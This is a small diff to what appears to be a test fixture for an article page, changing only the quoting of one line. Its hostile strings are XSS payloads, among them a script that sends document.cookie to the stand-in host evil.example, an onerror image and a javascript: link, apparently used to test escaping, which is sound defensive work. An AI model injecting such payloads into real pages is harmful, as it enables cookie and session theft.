@@ -15,7 +15,7 @@ PAGE = "pages/article.py"
 HOSTILE_TITLE = "<script>alert('title')</script> Budget <b>row</b>"
 HOSTILE_TEXT = (
     "The minister said <script>document.location='https://evil.example/'+document.cookie</script>"
-    " spending rose.\n<img src=x onerror=alert(1)> Click <a href=\"javascript:alert(2)\">here</a>."
+    ' spending rose.\n<img src=x onerror=alert(1)> Click <a href="javascript:alert(2)">here</a>.'
 )
 
 
